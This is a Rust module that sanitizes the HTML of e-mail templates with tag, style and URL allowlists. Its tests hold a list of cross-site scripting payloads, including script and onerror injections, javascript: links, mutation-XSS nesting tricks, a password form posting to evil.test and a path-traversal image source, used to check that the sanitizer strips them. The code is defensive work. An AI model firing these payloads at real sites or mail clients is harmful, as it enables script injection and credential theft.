//! Sanitizes the HTML of e-mails, so that nothing in it is executable (rules 6.5, TPL-30). It is
//! sanitized when it is saved and again when it is sent.

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use ammonia::{Builder, UrlRelative};
use css_inline::{CSSInliner, InlineOptions};

use super::tokens::{Tag, Token, decoded, tokens};

pub use super::tokens::escaped;

/// The largest width of an e-mail in pixels.
pub const MAX_WIDTH: u32 = 600;

/// The path prefix of uploaded pictures.
pub const OWN_PICTURES: &str = "/media/";

/// The allowed tags.
const TAGS: &[&str] = &[
    "a",
    "address",
    "b",
    "big",
    "blockquote",
    "br",
    "caption",
    "center",
    "code",
    "del",
    "div",
    "em",
    "font",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "s",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
];

/// The basic tags, which every mail program shows alike.
const BASIC_TAGS: &[&str] = &[
    "a",
    "b",
    "blockquote",
    "br",
    "code",
    "div",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
];

/// Tags that are removed with their content.
const REMOVED_WITH_CONTENT: &[&str] = &[
    "script",
    "style",
    "title",
    "template",
    "noscript",
    "textarea",
    "select",
    "iframe",
    "object",
    "svg",
    "math",
    "xmp",
    "noembed",
    "noframes",
    "plaintext",
    "audio",
    "video",
    "canvas",
];

/// The allowed style properties, which only change the look of text.
const STYLES: &[&str] = &[
    "background-color",
    "border",
    "border-bottom",
    "border-collapse",
    "border-color",
    "border-left",
    "border-radius",
    "border-right",
    "border-spacing",
    "border-style",
    "border-top",
    "border-width",
    "color",
    "direction",
    "display",
    "font",
    "font-family",
    "font-size",
    "font-style",
    "font-variant",
    "font-weight",
    "height",
    "letter-spacing",
    "line-height",
    "list-style",
    "list-style-type",
    "margin",
    "margin-bottom",
    "margin-left",
    "margin-right",
    "margin-top",
    "max-height",
    "max-width",
    "min-height",
    "min-width",
    "padding",
    "padding-bottom",
    "padding-left",
    "padding-right",
    "padding-top",
    "text-align",
    "text-decoration",
    "text-decoration-line",
    "text-indent",
    "text-transform",
    "vertical-align",
    "white-space",
    "width",
    "word-break",
    "word-spacing",
];

/// The functions that their values may use.
const FUNCTIONS: &[&str] = &["rgb", "rgba", "hsl", "hsla"];

static RICH: LazyLock<Builder<'static>> = LazyLock::new(|| rich(filtered));

static BASIC: LazyLock<Builder<'static>> = LazyLock::new(|| common(BASIC_TAGS, filtered));

/// Returns the sanitized value of a tag's attribute.
pub(crate) type Filter = for<'v> fn(&str, &str, &'v str) -> Option<Cow<'v, str>>;

/// The sanitizer of [`sanitized`] with another filter of attributes.
pub(crate) fn rich(filter: Filter) -> Builder<'static> {
    let mut builder = common(TAGS, filter);
    builder.generic_attributes(HashSet::from(["style", "align", "dir", "lang", "title"]));
    builder
}

fn common(tags: &'static [&'static str], filter: Filter) -> Builder<'static> {
    let mut builder = Builder::empty();
    builder
        .tags(tags.iter().copied().collect())
        .clean_content_tags(REMOVED_WITH_CONTENT.iter().copied().collect())
        .tag_attributes(attributes())
        .generic_attributes(HashSet::new())
        .url_schemes(HashSet::from(["http", "https", "mailto", "tel"]))
        .url_relative(UrlRelative::PassThrough)
        .link_rel(None)
        .strip_comments(true)
        .attribute_filter(filter);
    builder
}

fn attributes() -> HashMap<&'static str, HashSet<&'static str>> {
    let cell = ["colspan", "rowspan", "width", "height", "valign", "bgcolor"];
    HashMap::from([
        ("a", HashSet::from(["href", "target", "rel"])),
        ("img", HashSet::from(["src", "alt", "width", "height", "border"])),
        ("td", HashSet::from(cell)),
        ("th", HashSet::from(cell)),
        ("tr", HashSet::from(["valign", "bgcolor", "height"])),
        (
            "table",
            HashSet::from([
                "width",
                "height",
                "border",
                "cellpadding",
                "cellspacing",
                "bgcolor",
                "role",
            ]),
        ),
        ("font", HashSet::from(["color", "face", "size"])),
        ("ol", HashSet::from(["start", "type"])),
        ("ul", HashSet::from(["type"])),
        ("hr", HashSet::from(["width", "size"])),
    ])
}

/// The sanitized value of an attribute.
pub(crate) fn filtered<'v>(tag: &str, attribute: &str, value: &'v str) -> Option<Cow<'v, str>> {
    match attribute {
        "style" => Some(style(value)).filter(|kept| !kept.is_empty()).map(Cow::Owned),
        "href" => {
            let address = value.trim_start().to_ascii_lowercase();
            ["https://", "http://", "mailto:", "tel:"]
                .iter()
                .any(|scheme| address.starts_with(scheme))
                .then_some(Cow::Borrowed(value))
        }
        "src" => {
            let is_own = value.starts_with(OWN_PICTURES) && !value.contains("..");
            let is_secure = value
                .get(..8)
                .is_some_and(|scheme| scheme.eq_ignore_ascii_case("https://"));
            (is_own || is_secure).then_some(Cow::Borrowed(value))
        }
        "width" | "height" if tag == "img" => {
            let is_number = !value.is_empty() && value.len() < 6 && value.bytes().all(|b| b.is_ascii_digit());
            is_number.then_some(Cow::Borrowed(value))
        }
        _ => Some(Cow::Borrowed(value)),
    }
}

/// The allowed declarations of a style.
fn style(value: &str) -> String {
    let mut kept: Vec<String> = Vec::new();
    for declaration in declarations(value) {
        let Some((name, value)) = declaration.split_once(':') else {
            continue;
        };
        let (name, value) = (name.trim().to_ascii_lowercase(), value.trim());
        if STYLES.contains(&name.as_str()) && is_harmless(value) {
            kept.push(format!("{name}: {value}"));
        }
    }
    kept.join("; ")
}

/// The declarations of a style; a semicolon in quotes doesn't end one.
fn declarations(style: &str) -> Vec<&str> {
    let (mut found, mut begins, mut quote) = (Vec::new(), 0, None);
    for (at, character) in style.char_indices() {
        match (character, quote) {
            ('"' | '\'', None) => quote = Some(character),
            (_, Some(open)) if character == open => quote = None,
            (';', None) => {
                found.push(&style[begins..at]);
                begins = at + 1;
            }
            _ => {}
        }
    }
    found.push(&style[begins..]);
    found
}

fn is_harmless(value: &str) -> bool {
    let is_plain = |c: char| c.is_alphanumeric() || " #%.,'\"()-+!_/".contains(c);
    if value.is_empty() || value.len() > 300 || !value.chars().all(is_plain) || value.contains("/*") {
        return false;
    }
    value.match_indices('(').all(|(at, _)| {
        let name: String = value[..at]
            .chars()
            .rev()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '-')
            .collect();
        let name: String = name.chars().rev().collect();
        FUNCTIONS.contains(&name.to_ascii_lowercase().as_str())
    })
}

/// HTML as it is stored: style sheets are inlined, and everything executable is removed. It must
/// not be [`super::weight::is_heavy`].
#[must_use]
pub fn prepared(html: &str) -> String {
    let has_sheet = html
        .as_bytes()
        .windows(6)
        .any(|bytes| bytes.eq_ignore_ascii_case(b"<style"));
    if !has_sheet {
        return sanitized(html);
    }
    static INLINER: LazyLock<CSSInliner<'static>> = LazyLock::new(|| {
        CSSInliner::new(InlineOptions {
            load_remote_stylesheets: false,
            ..InlineOptions::default()
        })
    });
    match INLINER.inline(html) {
        Ok(inlined) => sanitized(&inlined),
        // An invalid style sheet is left out.
        Err(_) => sanitized(html),
    }
}

/// HTML in which nothing is executed and only pictures are loaded. Idempotent.
#[must_use]
pub fn sanitized(html: &str) -> String {
    settled(&RICH, html)
}

/// Like [`sanitized`], with basic tags and without styles; all text stays.
#[must_use]
pub fn basic(html: &str) -> String {
    settled(&BASIC, html)
}

fn settled(builder: &Builder<'static>, html: &str) -> String {
    settled_by(html, |html| Some(builder.clean(html).to_string())).unwrap_or_default()
}

/// Sanitizes by `clean` until nothing changes: a browser's reading of written HTML can differ from
/// the original once or twice. `None` when `clean` gives up.
pub(crate) fn settled_by(html: &str, clean: impl Fn(&str) -> Option<String>) -> Option<String> {
    const MOST: usize = 5;
    let mut html = Cow::Borrowed(html);
    for _ in 0..MOST {
        let clean = with_pictures_alone(&clean(&html)?);
        if clean == html {
            return Some(clean);
        }
        html = Cow::Owned(clean);
    }
    // Nobody writes such HTML by hand; its text remains.
    Some(escaped(&words(&html)))
}

/// Removes pictures without a URL.
fn with_pictures_alone(html: &str) -> String {
    rewritten(html, |tag| {
        (tag.name.eq_ignore_ascii_case("img") && tag.attribute("src").is_none()).then(String::new)
    })
}

/// HTML with each tag replaced for which `form` returns a replacement.
pub(crate) fn rewritten(html: &str, mut form: impl FnMut(Tag<'_>) -> Option<String>) -> String {
    let mut out = String::with_capacity(html.len());
    for token in tokens(html) {
        match token {
            Token::Text(text) => out.push_str(text),
            Token::Close(name) => {
                out.push_str("</");
                out.push_str(name);
                out.push('>');
            }
            Token::Open(tag) => match form(tag) {
                Some(form) => out.push_str(&form),
                None => push_tag(&mut out, tag.name, tag.attributes()),
            },
        }
    }
    out
}

pub(crate) fn push_tag<'a>(
    out: &mut String,
    name: &str,
    attributes: impl Iterator<Item = (&'a str, &'a str)>,
) {
    out.push('<');
    out.push_str(name);
    for (name, value) in attributes {
        out.push(' ');
        out.push_str(name);
        out.push_str("=\"");
        out.push_str(value);
        out.push('"');
    }
    out.push('>');
}

/// HTML with other URLs for uploaded pictures: `address` receives each URL without entities.
#[must_use]
pub fn with_own_pictures_at(html: &str, address: impl Fn(&str) -> String) -> String {
    rewritten(html, |tag| {
        let source = tag.attribute("src").filter(|_| tag.name == "img").map(decoded)?;
        if !source.starts_with(OWN_PICTURES) {
            return None;
        }
        let source = escaped(&address(&source));
        let mut out = String::new();
        let attributes = tag
            .attributes()
            .map(|(name, value)| (name, if name == "src" { &*source } else { value }));
        push_tag(&mut out, tag.name, attributes);
        Some(out)
    })
}

/// HTML whose pictures have an alternative text and a width that fits an e-mail and shrinks with
/// a narrow screen. It must be sanitized.
#[must_use]
pub(crate) fn with_sized_pictures(html: &str) -> String {
    rewritten(html, |tag| {
        if tag.name != "img" {
            return None;
        }
        let wished = tag.attribute("width").and_then(|width| width.parse().ok());
        let styled = || {
            let style = tag.attribute("style").map(decoded)?;
            let width = declarations(&style).into_iter().find_map(|each| {
                let (name, value) = each.split_once(':')?;
                (name.trim() == "width").then(|| value.trim().trim_end_matches("px").parse::<f64>().ok())?
            })?;
            #[expect(
                clippy::cast_possible_truncation,
                clippy::cast_sign_loss,
                reason = "casts from f64 saturate"
            )]
            let width = width.round() as u32;
            Some(width)
        };
        let width = wished.or_else(styled).unwrap_or(MAX_WIDTH).clamp(1, MAX_WIDTH);
        let height = tag
            .attribute("height")
            .filter(|_| wished == Some(width))
            .map_or_else(String::new, |height| format!(" height=\"{height}\""));
        let style = tag.attribute("style").map(decoded).unwrap_or_default();
        let others: Vec<_> = declarations(&style)
            .into_iter()
            .map(str::trim)
            .filter(|each| {
                let name = each.split(':').next().unwrap_or_default().trim();
                !each.is_empty() && !["width", "height", "max-width"].contains(&name)
            })
            .chain(["max-width: 100%", "height: auto"])
            .collect();
        Some(format!(
            "<img src=\"{}\" alt=\"{}\" width=\"{width}\"{height} style=\"{}\">",
            tag.attribute("src").unwrap_or_default(),
            tag.attribute("alt").unwrap_or_default(),
            escaped(&others.join("; ")),
        ))
    })
}

/// The text of HTML, without its tags.
#[must_use]
pub fn words(html: &str) -> String {
    let mut words = String::new();
    for token in tokens(html) {
        match token {
            Token::Text(text) => words.push_str(&decoded(text)),
            Token::Open(tag) if is_inline(tag.name) => {}
            Token::Close(name) if is_inline(name) => {}
            Token::Open(_) | Token::Close(_) => words.push(' '),
        }
    }
    words
}

fn is_inline(name: &str) -> bool {
    [
        "a", "b", "big", "code", "del", "em", "font", "i", "ins", "mark", "s", "small", "span", "strike",
        "strong", "sub", "sup", "u",
    ]
    .iter()
    .any(|inline| inline.eq_ignore_ascii_case(name))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Content that some mail program has executed.
    const HOSTILE: &[&str] = &[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://x.test/a.png\" onload=alert(1) onclick='alert(1)'>",
        "<img src='javascript:alert(1)'>",
        "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
        "<img src=\"http://tracker.test/a.gif\">",
        "<img src=/media/../../etc/passwd>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"//evil.test\">x</a>",
        "<a href=\"/api/account/logout\">x</a>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<iframe src=https://evil.test></iframe><object data=x></object><embed src=x>",
        "<form action=https://evil.test><input name=password><button>Go</button></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.test'><base href=https://evil.test>",
        "<link rel=stylesheet href=https://evil.test/x.css>",
        "<style>@import url(https://evil.test/x.css); body { background: url(https://evil.test) }</style>",
        "<div style=\"background: url(javascript:alert(1))\">x</div>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<div style=\"color: red; position: fixed; top: 0; z-index: 9999\">x</div>",
        "<div style=\"-moz-binding: url(https://evil.test/x.xml#a)\">x</div>",
        "<div style=\"color: r\\65 d; font-family: '</style><script>alert(1)</script>'\">x</div>",
        "<div style=\"background-color: url(https://evil.test/x)\">x</div>",
        "<p class=x id=y name=z data-x=y onmouseover=alert(1)>x</p>",
        "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
        "<a href='https://x.test' target=_blank style='behavior:url(x)'>x</a>",
        "<table background=\"javascript:alert(1)\"><tr><td background=x>x</td></tr></table>",
        "<p>x</p ><a/href=\"javascript:alert(1)\"/onclick=alert(1)>y</a>",
        "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
        "<b><p><a><table><a href=https://x.test>misnested</b></p></table>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<template><script>alert(1)</script></template><details open ontoggle=alert(1)>",
        "\u{0}<img src=x\u{0}onerror=alert(1)>",
    ];

    fn is_clean(html: &str) -> bool {
        tokens(html).all(|token| match token {
            Token::Open(tag) => {
                TAGS.contains(&tag.name)
                    && tag.attributes().all(|(name, value)| {
                        let value = decoded(value).to_ascii_lowercase();
                        !name.starts_with("on")
                            && !["class", "id", "name", "background", "action"].contains(&name)
                            && (name == "title" || !value.contains("script:"))
                            && (name == "title" || !value.contains("url("))
                            && !value.contains("expression(")
                    })
            }
            Token::Close(name) => TAGS.contains(&name),
            Token::Text(_) => true,
        })
    }

    // TPL-30
    #[test]
    fn hostile_html_is_removed_and_sanitizing_is_idempotent() {
        let together = HOSTILE.concat();
        for html in HOSTILE.iter().copied().chain([&*together]) {
            let clean = prepared(html);
            assert!(is_clean(&clean), "{html} became {clean}");
            for gone in [
                "alert(1)\"",
                "<script",
                "onerror=",
                "evil.test/x",
                "position",
                "javascript:",
            ] {
                let in_tags: String = tokens(&clean)
                    .filter_map(|token| match token {
                        Token::Open(tag) => Some(format!(
                            "<{} {:?}>",
                            tag.name,
                            tag.attributes().collect::<Vec<_>>()
                        )),
                        Token::Close(_) | Token::Text(_) => None,
                    })
                    .filter(|tag| !tag.contains("\"title\""))
                    .collect();
                assert!(!in_tags.contains(gone), "{html} became {clean}");
            }
            assert_eq!(sanitized(&clean), clean, "{html}");
            assert_eq!(prepared(&clean), clean, "{html}");
            let simple = basic(html);
            assert!(is_clean(&simple), "{html} became {simple}");
            assert_eq!(basic(&simple), simple, "{html}");
        }
    }

    #[test]
    fn html_of_the_editor_stays_unchanged() {
        for html in [
            "<p style=\"text-align: center\"><strong>Hello</strong> { Recipient Name }</p>",
            "<h2>Title</h2><ul><li><p>One</p></li><li><p>Two</p></li></ul><ol start=\"3\"><li><p>Three</p></li></ol>",
            "<p><span style=\"font-family: 'Comic Sans MS', cursive; font-size: 18px; color: rgb(12, 34, 56)\">x</span></p>",
            "<p><a target=\"_blank\" rel=\"noopener noreferrer nofollow\" href=\"https://example.com/?a=1&amp;b={ City }\">link</a></p>",
            "<p><img src=\"/media/a/images/b.jpg\" alt=\"A house\" width=\"400\"></p>",
            "<blockquote><p>Quoted &amp; escaped &lt;b&gt;</p></blockquote><pre><code>a  b\n c</code></pre><hr>",
            "<p>Line<br>break&nbsp;here</p><p></p>",
        ] {
            assert_eq!(prepared(html), html);
        }
    }

    #[test]
    fn style_sheets_are_inlined() {
        let html = "<html><head><style>p.a { color: red; background: url(https://evil.test) } b { font-size: 20px }\
                    </style><title>Gone</title></head><body><p class=\"a\">x <b>y</b></p></body></html>";
        assert_eq!(
            prepared(html).trim(),
            "<p style=\"color: red\">x <b style=\"font-size: 20px\">y</b></p>"
        );
    }

    #[test]
    fn pictures_have_alternative_text_and_a_fitting_width() {
        let sized = with_sized_pictures(
            "<img src=\"https://x.test/a.png\" width=\"900\" height=\"300\"><img src=\"https://x.test/b.png\" alt=\"B\" \
             style=\"width: 120px; height: 90px; margin: 4px\"><img src=\"https://x.test/c.png\">",
        );
        assert_eq!(
            sized,
            "<img src=\"https://x.test/a.png\" alt=\"\" width=\"600\" style=\"max-width: 100%; height: auto\">\
             <img src=\"https://x.test/b.png\" alt=\"B\" width=\"120\" style=\"margin: 4px; max-width: 100%; height: auto\">\
             <img src=\"https://x.test/c.png\" alt=\"\" width=\"600\" style=\"max-width: 100%; height: auto\">"
        );
    }

    #[test]
    fn own_pictures_move_to_another_address() {
        let html = "<p><img src=\"/media/t/images/a.jpg?e=1&amp;s=x\" alt=\"A\"><img src=\"https://x.test/b.png\"></p>";
        assert_eq!(
            with_own_pictures_at(html, |source| source
                .split('?')
                .next()
                .unwrap_or_default()
                .to_owned()),
            "<p><img src=\"/media/t/images/a.jpg\" alt=\"A\"><img src=\"https://x.test/b.png\"></p>"
        );
    }
}
